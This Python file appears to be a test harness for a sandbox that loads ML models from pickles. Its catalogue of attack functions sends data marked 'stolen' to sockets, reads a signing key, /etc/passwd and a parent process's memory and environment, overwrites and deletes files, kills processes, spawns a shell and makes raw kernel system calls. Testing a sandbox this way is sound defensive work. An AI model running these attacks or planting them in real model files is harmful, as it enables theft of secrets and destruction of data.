# mypy: ignore-errors
"""What a hostile model tries, as source: it travels inside a real pickle and runs where that is opened.

Each attack is a function that returns what it got, or raises. Its outcome comes back as a label.
"""

import ctypes
import fcntl
import os
import resource
import signal
import socket
import struct
import subprocess

import numpy as np

AIMS = {}  # the pickle sets what to aim at
LIBC = ctypes.CDLL(None, use_errno=True)


def system(number, *arguments):
    if LIBC.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return "let through"


def connect(family, kind, address):
    with socket.socket(family, kind) as made:
        made.settimeout(2)
        if kind == socket.SOCK_DGRAM:
            return made.sendto(b"stolen", address)
        made.connect(address)
        return made.send(b"stolen")


def pair_to_stranger():
    ours, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return ours.sendto(b"stolen", AIMS["unix"])


def read(path):
    with open(path, "rb") as file:
        return file.read(64)


def memory():
    with open(f"/proc/{AIMS['parent']}/mem", "rb") as file:
        return file.read(1)


def link():
    os.link(AIMS["key"], "copy")
    return read("copy")


def through_symlink():
    os.symlink(AIMS["key"], "alias")
    return read("alias")


def write(path, mode):
    with open(path, mode) as file:
        return file.write("owned")


def shell():
    return subprocess.run(["/bin/sh", "-c", f"cat {AIMS['key']}"], capture_output=True, check=True).stdout


def become_shell():
    os.execv("/bin/sh", ["/bin/sh", "-c", f"cat {AIMS['key']}"])


def allocate():
    return len(bytearray(8 << 30))


def raise_limit():
    resource.setrlimit(resource.RLIMIT_DATA, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return "raised"


def outlive():
    if LIBC.prctl(1, 0, 0, 0, 0) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return "let go"


def become_somebody():
    os.setuid(65_534)
    return "let go"


def own(command, *owner):
    readable, _ = os.pipe()
    return fcntl.fcntl(readable, command, *owner)


def own_socket():
    ours, _ = socket.socketpair()
    return fcntl.ioctl(ours, 0x8901, struct.pack("i", AIMS["process"]))


def read_process():
    class Piece(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    there = ctypes.create_string_buffer(8)
    here = Piece(ctypes.addressof(there), 8)
    return system(
        310 if os.uname().machine == "x86_64" else 270, AIMS["parent"], ctypes.byref(here), 1, ctypes.byref(here), 1, 0
    )


ATTACKS = {
    "tcp": lambda: connect(socket.AF_INET, socket.SOCK_STREAM, tuple(AIMS["tcp"])),
    "udp": lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, tuple(AIMS["udp"])),
    "dns": lambda: socket.getaddrinfo("localhost.localdomain.", 80),
    "unix socket": lambda: connect(socket.AF_UNIX, socket.SOCK_DGRAM, AIMS["unix"]),
    "pair of sockets": pair_to_stranger,
    "key": lambda: read(AIMS["key"]),
    "key by hard link": link,
    "key by symbolic link": through_symlink,
    "key by root of /proc": lambda: read(f"/proc/self/root{AIMS['key']}"),
    "home": lambda: os.listdir(AIMS["home"]),
    "data beside the gate file": lambda: read(AIMS["data"]),
    "/etc/passwd": lambda: read("/etc/passwd"),
    "variables of the gate": lambda: read(f"/proc/{AIMS['parent']}/environ"),
    "memory of the gate": memory,
    "memory of the gate, by system call": read_process,
    "own variables": lambda: os.environ["MLGATE_SIGNING_KEY"],
    "new file": lambda: write(AIMS["outside"] + "/new", "w"),
    "overwriting": lambda: write(AIMS["victim"], "w"),
    "truncating": lambda: os.truncate(AIMS["victim"], 0),
    "deleting": lambda: os.unlink(AIMS["victim"]),
    "renaming": lambda: os.rename(AIMS["victim"], "taken"),
    "its own files": lambda: write(AIMS["model"], "a"),
    "the user's code": lambda: write(AIMS["code"], "a"),
    "kill": lambda: os.kill(AIMS["process"], signal.SIGTERM),
    "kill the gate": lambda: os.kill(AIMS["parent"], signal.SIGTERM),
    "kill all": lambda: os.kill(-1, signal.SIGTERM),
    "kill, by a descriptor of its own": lambda: own(fcntl.F_SETOWN, AIMS["process"]),
    "kill, by a descriptor and what owns it": lambda: own(15, struct.pack("ii", 1, AIMS["process"])),
    "kill, by a socket of its own": own_socket,
    "kill, by another signal": lambda: own(fcntl.F_SETSIG, signal.SIGKILL),
    "hold up who writes": lambda: fcntl.fcntl(os.open(AIMS["code"], os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK),
    "fork": os.fork,
    "shell": shell,
    "become a shell": become_shell,
    "8 GB": allocate,
    "raise the limit": raise_limit,
    "outlive the gate": outlive,
    "outlive the gate as somebody else": become_somebody,
    "io_uring": lambda: system(425, 1, ctypes.create_string_buffer(256)),
    "bpf": lambda: system(321 if os.uname().machine == "x86_64" else 280, 0, 0, 0),
    "namespace": lambda: system(272 if os.uname().machine == "x86_64" else 97, 0x10000000),
    "allowed: own folder": lambda: write("kept", "w") and read("kept").decode(),
    "allowed: code of the user": lambda: read(AIMS["code"]).decode().strip(),
    "allowed: threads": lambda: __import__("concurrent.futures").futures.ThreadPoolExecutor(2).submit(str, 1).result(),
    "pretended: mode": lambda: os.chmod(AIMS["victim"], 0o777),
}


def attempt(name):
    try:
        return f"got {ATTACKS[name]()!r}"
    except BaseException as error:
        return type(error).__name__


def model(rows):
    return np.array([attempt(name) for name in rows["attack"]], dtype=object)
